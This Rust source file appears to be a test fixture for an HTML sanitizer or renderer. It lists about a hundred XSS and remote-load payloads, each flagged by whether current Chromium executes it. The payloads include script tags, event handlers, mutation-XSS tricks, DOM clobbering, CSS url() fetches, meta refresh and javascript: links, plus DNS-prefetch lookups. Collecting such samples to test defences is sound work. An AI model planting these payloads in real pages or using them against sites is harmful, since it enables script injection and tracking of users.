//! HTML that would run script, fetch something or lead the reader away, if it were let.

/// One trick.
pub(crate) struct Sample {
    /// Stands in the subject, and in the path that the trick asks for.
    pub(crate) name: &'static str,
    /// `{url}` is where it calls; `{run}` is a script that calls there and leaves a mark on the outermost window.
    html: &'static str,
    /// Whether today's Chromium falls for it when a page is served as it stands: then the sample is known to work. The
    /// others are what older browsers fell for, or want a click.
    pub(crate) works: bool,
}

const fn works(name: &'static str, html: &'static str) -> Sample {
    Sample { name, html, works: true }
}

const fn fails(name: &'static str, html: &'static str) -> Sample {
    Sample { name, html, works: false }
}

impl Sample {
    /// The HTML that calls at this address.
    pub(crate) fn html(&self, url: &str) -> String {
        let run =
            format!("try{{top.marked=1;top.document.title=1}}catch(e){{}};new Image().src=`{url}`;void 0");
        self.html.replace("{run}", &run).replace("{url}", url)
    }
}

pub(crate) const SAMPLES: &[Sample] = &[
    // Script.
    works("script", "<script>{run}</script>"),
    works("script-src", "<script src='{url}'></script>"),
    works("script-module", "<script type=module src='{url}'></script>"),
    works("script-case", "<ScRiPt\n>{run}</sCrIpT\n>"),
    works("script-in-noscript", "<noscript><p title='</noscript><img src=x onerror=\"{run}\">'></noscript>"),
    works("script-in-comment", "<!--><img src=x onerror=\"{run}\">-->"),
    works("script-in-title", "<title><a title='</title><img src=x onerror=\"{run}\">'></title>"),
    works("script-in-textarea", "<textarea><a title='</textarea><img src=x onerror=\"{run}\">'></textarea>"),
    works("script-in-xmp", "<xmp><a title='</xmp><img src=x onerror=\"{run}\">'></xmp>"),
    works("script-after-broken-svg", "<svg></p><style><a id='</style><img src=x onerror=\"{run}\">'>"),
    works("script-import", "<script type=module>import '{url}'</script>"),
    fails(
        "script-speculation",
        "<script type=speculationrules>{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"{url}\"]}]}</script>",
    ),
    fails("script-in-template", "<template><script>{run}</script></template>"),
    // Event handlers.
    works("onerror", "<img src='data:image/png,x' onerror=\"{run}\">"),
    works("onload", "<body onload=\"{run}\"><p>x</p></body>"),
    works("onfocus", "<input autofocus onfocus=\"{run}\">"),
    works("ontoggle", "<details open ontoggle=\"{run}\"><summary>x</summary></details>"),
    works(
        "onanimationstart",
        "<style>@keyframes x{}</style><p style='animation:x 1s' onanimationstart=\"{run}\">x</p>",
    ),
    works("onerror-of-input", "<input type=image src='data:image/png,x' onerror=\"{run}\">"),
    works("onerror-of-source", "<video><source src='data:video/mp4,x' onerror=\"{run}\"></video>"),
    works("onload-of-link", "<link rel=stylesheet href='data:text/css,' onload=\"{run}\">"),
    works("onload-of-frame", "<iframe onload=\"{run}\"></iframe>"),
    works("onpageshow", "<body onpageshow=\"{run}\"><p>x</p></body>"),
    fails("onstart", "<marquee onstart=\"{run}\">x</marquee>"),
    fails(
        "onbeforetoggle",
        "<button popovertarget=p>press here</button><div popover id=p onbeforetoggle=\"{run}\">x</div>",
    ),
    works("onerror-no-space", "<img/src='data:image/png,x'/onerror=\"{run}\">"),
    fails("onclick", "<p onclick=\"{run}\">press here</p>"),
    fails("onmouseover", "<p onmouseover=\"{run}\">press here</p>"),
    // Other languages inside.
    works("svg-onload", "<svg onload=\"{run}\"></svg>"),
    works("svg-script", "<svg><script>{run}</script></svg>"),
    works("svg-image", "<svg><image href='{url}'/></svg>"),
    works("svg-use", "<svg><use href='{url}#x'/></svg>"),
    works("svg-animate", "<svg><animate onbegin=\"{run}\" attributeName=x dur=1s></svg>"),
    works("svg-set", "<svg><set onbegin=\"{run}\" attributeName=x dur=1s></svg>"),
    works("svg-style", "<svg><style>@import '{url}';</style></svg>"),
    works(
        "svg-filter",
        "<svg><filter id=x><feImage href='{url}'/></filter><rect width=9 height=9 filter='url(#x)'/></svg>",
    ),
    works("svg-foreign", "<svg><foreignObject><iframe src='{url}'></iframe></foreignObject></svg>"),
    fails("svg-link", "<svg><a href=\"javascript:{run}\"><text x=20 y=20>press here</text></a></svg>"),
    fails(
        "svg-link-old",
        "<svg><a xlink:href=\"javascript:{run}\"><text x=20 y=20>press here</text></a></svg>",
    ),
    fails("math-link", "<math><mtext href=\"javascript:{run}\">press here</mtext></math>"),
    works(
        "math-mutation",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=\"{run}\"&gt;'>\
         </table></mtext></math><img src='{url}'>",
    ),
    // Styles.
    fails("style-expression", "<p style=\"width:expression({run})\">x</p>"),
    fails("style-behaviour", "<p style=\"behavior:url({url})\">x</p>"),
    fails("style-binding", "<p style=\"-moz-binding:url({url})\">x</p>"),
    works("style-background", "<p style=\"background:url({url})\">x</p>"),
    works("style-upper-case", "<P STYLE=\"BACKGROUND:URL({url})\">x</P>"),
    works("style-mask", "<p style=\"-webkit-mask-image:url({url});mask-image:url({url})\">x</p>"),
    works("style-filter", "<p style=\"filter:url({url}#x)\">x</p>"),
    works("style-shape", "<p style=\"float:left;shape-outside:url({url})\">x</p>"),
    works("style-cross-fade", "<p style=\"background:-webkit-cross-fade(url({url}),url({url}),50%)\">x</p>"),
    works("style-own-variable", "<p style=\"--x:url({url});background:var(--x)\">x</p>"),
    fails("style-clip", "<p style=\"clip-path:url({url}#x)\">x</p>"),
    works("style-element", "<style>p{background:url({url})}</style><p>x</p>"),
    works("style-import", "<style>@import '{url}';</style>"),
    works("style-import-url", "<style>@import url({url});</style>"),
    works("style-font", "<style>@font-face{font-family:x;src:url({url})}p{font-family:x}</style><p>x</p>"),
    works("style-list", "<ul style=\"list-style-image:url({url})\"><li>x</ul>"),
    works("style-content", "<style>p::before{content:url({url})}</style><p>x</p>"),
    works("style-escaped", "<p style=\"background:u\\72 l({url})\">x</p>"),
    works("style-image-set", "<p style=\"background:image-set('{url}' 1x)\">x</p>"),
    works("style-border-image", "<p style=\"border:9px solid;border-image:url({url}) 9\">x</p>"),
    works("style-variable", "<style>:root{--x:url({url})}p{background:var(--x)}</style><p>x</p>"),
    works("style-cursor", "<p style=\"cursor:url({url}),auto\">x</p>"),
    // Links in the head.
    works("meta-refresh", "<meta http-equiv=refresh content='0;url={url}'>"),
    works("base", "<base href='{url}/'><img src=under-base>"),
    works("link-stylesheet", "<link rel=stylesheet href='{url}'>"),
    works("link-preload", "<link rel=preload as=image href='{url}'>"),
    works("link-preload-set", "<link rel=preload as=image imagesrcset='{url} 1x'>"),
    works("link-modulepreload", "<link rel=modulepreload href='{url}'>"),
    works("link-icon", "<link rel=icon href='{url}'>"),
    works("link-prefetch", "<link rel=prefetch href='{url}'>"),
    works("link-manifest", "<link rel=manifest href='{url}'>"),
    // Things that load.
    works("img", "<img src='{url}'>"),
    works("image", "<image src='{url}'>"),
    works(
        "img-clobbering",
        "<img name=body><img name=documentElement src='{url}'><form name=parentNode></form>",
    ),
    works("img-srcset", "<img srcset='{url} 1x'>"),
    works("img-lowsrc", "<img src='{url}' lowsrc='{url}'>"),
    works("picture", "<picture><source srcset='{url}'><img></picture>"),
    works("input-image", "<input type=image src='{url}'>"),
    works("video", "<video src='{url}' preload=auto></video>"),
    works("video-poster", "<video poster='{url}'></video>"),
    works("audio", "<audio src='{url}' preload=auto></audio>"),
    works("source", "<audio preload=auto><source src='{url}'></audio>"),
    works("track", "<video src='data:video/mp4,x'><track default src='{url}'></video><img src='{url}'>"),
    works("body-background", "<body background='{url}'>x</body>"),
    works("table-background", "<table background='{url}'><tr><td>x</table>"),
    works("cell-background", "<table><tr><td background='{url}'>x</table>"),
    // Frames and things like frames.
    works("iframe", "<iframe src='{url}'></iframe>"),
    works("iframe-srcdoc", "<iframe srcdoc=\"<img src='{url}'>\"></iframe>"),
    works("iframe-srcdoc-script", "<iframe srcdoc=\"<script>new Image().src='{url}'</script>\"></iframe>"),
    works("iframe-data", "<iframe src=\"data:text/html,<img src='{url}'>\"></iframe>"),
    works("iframe-script", "<iframe src=\"javascript:{run}\"></iframe>"),
    works("frameset", "<frameset><frame src='{url}'></frameset>"),
    fails("object-data", "<object data=\"data:text/html,<img src='{url}'>\"></object>"),
    works("object", "<object data='{url}'></object>"),
    works("embed", "<embed src='{url}'>"),
    fails("applet", "<applet code='{url}' archive='{url}'></applet>"),
    // Forms.
    works("form", "<form action='{url}' id=f><input name=a></form><svg onload='f.submit()'></svg>"),
    fails("form-button", "<form action='{url}'><button>press here</button></form>"),
    fails("form-action", "<form id=g></form><button form=g formaction='{url}'>press here</button>"),
    fails("form-script", "<form action=\"javascript:{run}\"><button>press here</button></form>"),
    // Addresses.
    fails("link-script", "<a href=\"javascript:{run}\">press here</a>"),
    fails("link-script-case", "<a href=\" jAvA&#x09;script:{run}\">press here</a>"),
    fails("link-vbscript", "<a href=\"vbscript:{run}\">press here</a>"),
    fails("link-data", "<a href=\"data:text/html,<script>{run}</script>\">press here</a>"),
    fails("link-ping", "<a href='#' ping='{url}'>press here</a>"),
    fails("img-script", "<img src=\"javascript:{run}\">"),
    fails(
        "img-data-svg",
        "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{run}'/>\">",
    ),
    fails(
        "map",
        "<img usemap='#m' src='data:,' width=99 height=99><map name=m><area shape=default href='javascript:{run}'></map>",
    ),
];

/// HTML that makes a browser look up a name. `{name}` is one below `localhost`, which no look-up leaves this machine for
/// (RFC 6761 section 6.3).
pub(crate) const LOOK_UPS: &[&str] = &[
    "<link rel=dns-prefetch href='//{name}'>",
    "<link rel=preconnect href='http://{name}'>",
    "<img src='http://{name}/'>",
    "<video poster='http://{name}/'></video>",
    "<p style='background:url(http://{name}/)'>x</p>",
    "<meta http-equiv=x-dns-prefetch-control content=on><a href='http://{name}/'>a link</a>",
];
